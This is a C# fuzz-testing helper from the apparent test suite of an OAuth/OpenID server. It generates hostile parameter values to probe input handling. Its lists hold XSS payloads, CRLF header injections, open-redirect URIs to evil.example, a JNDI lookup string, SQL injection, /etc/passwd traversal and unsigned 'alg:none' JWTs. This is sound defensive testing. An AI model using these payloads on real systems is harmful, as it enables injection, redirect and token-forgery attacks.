using System.Text;

using Gatehouse.Server.Tests.Infrastructure;

namespace Gatehouse.Server.Tests.Fuzzing;

/// <summary>Tokens the fuzzer mixes in so requests get past the first checks; all issued to the Web app for alice.</summary>
internal sealed record FuzzTokens(string AccessToken, string RefreshToken, string IdToken);

/// <summary>
/// A small seeded generator of hostile parameter values (no generator library: one <see cref="Random"/> per case,
/// seeded from the run's seed, so a case replays exactly from its seed).
/// </summary>
internal sealed class FuzzValues(Random random, string origin, FuzzTokens tokens, FuzzTokens otherIssuerTokens)
{
    public const string ScriptPayload = "<script>alert(1)</script>";

    private static readonly string[] Unicode =
    [
        "ünïcödé", "\u202Egnp.exe", "a\u200Bb", "😀🔥", "\u0000", "\uFEFFclient", "ＡＢＣ", "e\u0301", "\uFFFD\uFFFF", "𝕏𝔂𝔃",
        "مرحبا", "日本語", "İı", "\u2028\u2029", "\t\v\f",
    ];

    private static readonly string[] Crlf =
    [
        "x\r\nSet-Cookie: pwned=1", "%0d%0aLocation:%20https://evil.example/", "\r\n\r\n" + ScriptPayload, "a\nb", "\r",
        "x%0AContent-Length:%200",
    ];

    private static readonly string[] Uris =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(document.domain)//", "data:text/html," + ScriptPayload, "https://evil.example/callback",
        "//evil.example/", "https://evil.example", "https://app.example.test.evil.example/authorization-code/callback",
        "https://app.example.test@evil.example/authorization-code/callback", TestSeed.WebRedirectUri + "/../../evil",
        TestSeed.WebRedirectUri.ToUpperInvariant(), TestSeed.WebRedirectUri + "#frag", TestSeed.WebRedirectUri + "?x=1",
        "http://app.example.test/authorization-code/callback", "/\\evil.example", "\\\\evil.example", "https:evil.example",
        "file:///etc/passwd", "https://evil.example/signout/callback", TestSeed.WebPostLogoutRedirectUri + "/..%2f..%2fevil",
        TestSeed.WebRedirectUri + "%0d%0a", "vbscript:msgbox(1)", "https://127.0.0.1:1/", "urn:ietf:wg:oauth:2.0:oob",
    ];

    private static readonly string[] Json = ["{", "{\"a\":1}", "[]", "null", "\"", "{\"token\":\"x\"}", "{\"a\":{\"b\":[1,2,{\"c\":", "[[[[[[[[[[[["];

    private static readonly string[] Odd =
    [
        "-1", "0", "99999999999999999999", "1e309", "NaN", "' OR 1=1--", ScriptPayload, "<img src=x onerror=alert(1)>", "%00", "%",
        "%%%", "+", "%ZZ", "&=&=", "=", "a=b&c=d", "..", "a.b.c", "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.", "${jndi:ldap://evil.example/a}",
        "{{7*7}}", "../../../../etc/passwd", "true", "openid openid openid", "code id_token token",
    ];

    public Random Random => random;

    public bool Chance(double probability) => random.NextDouble() < probability;

    public T Pick<T>(IReadOnlyList<T> items) => items[random.Next(items.Count)];

    /// <summary>A hostile value: empty, huge, unicode, CRLF, bad URIs, JSON, tokens of the wrong kind, or a mix.</summary>
    public string Hostile() => random.Next(12) switch
    {
        0 => "",
        1 => Huge(),
        2 => Pick(Unicode),
        3 => Pick(Crlf),
        4 or 5 => Pick(Uris),
        6 => Pick(Json),
        7 or 8 => Pick(Odd),
        9 => Token(),
        10 => RandomString(random.Next(1, 64)),
        _ => Hostile() + Hostile(),
    };

    public string Huge() => new(Pick("AaZ%=&.\u00e9".ToCharArray()), random.Next(2, 5) switch
    {
        2 => random.Next(2_000, 9_000),
        3 => random.Next(9_000, 40_000),
        _ => random.Next(40_000, 300_000),
    });

    /// <summary>A token-shaped value: a real one (right or wrong kind, other issuer), a mangled one, or junk.</summary>
    public string Token() => random.Next(10) switch
    {
        0 => tokens.AccessToken,
        1 => tokens.RefreshToken,
        2 => tokens.IdToken,
        3 => Pick([otherIssuerTokens.AccessToken, otherIssuerTokens.RefreshToken, otherIssuerTokens.IdToken]),
        4 => Mangle(Pick([tokens.AccessToken, tokens.RefreshToken, tokens.IdToken])),
        5 => tokens.AccessToken.Split('.') is [var header, var payload, _] ? $"{header}.{payload}." : "x",
        6 => "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhbGljZSJ9.",
        7 => Convert.ToBase64String(Encoding.UTF8.GetBytes(RandomString(48))),
        8 => tokens.AccessToken + tokens.AccessToken,
        _ => RandomString(random.Next(1, 200)),
    };

    public bool IsRealToken(string value) =>
        value == tokens.AccessToken || value == tokens.RefreshToken || value == tokens.IdToken
        || value == otherIssuerTokens.AccessToken || value == otherIssuerTokens.RefreshToken || value == otherIssuerTokens.IdToken;

    public FuzzTokens Tokens => tokens;

    public string Origin => origin;

    public string Mangle(string value)
    {
        if (value.Length == 0)
        {
            return "x";
        }

        var chars = value.ToCharArray();
        var index = random.Next(chars.Length);
        chars[index] = chars[index] == 'A' ? 'B' : 'A';
        return new string(chars);
    }

    public string RandomString(int length)
    {
        var builder = new StringBuilder(length);
        for (var i = 0; i < length; i++)
        {
            builder.Append(random.Next(8) switch
            {
                0 => (char)random.Next(0x20, 0x7F),
                1 => (char)random.Next(0xA0, 0x2000),
                2 => (char)random.Next(0, 0x20),
                _ => (char)random.Next('a', 'z' + 1),
            });
        }

        return builder.ToString();
    }
}
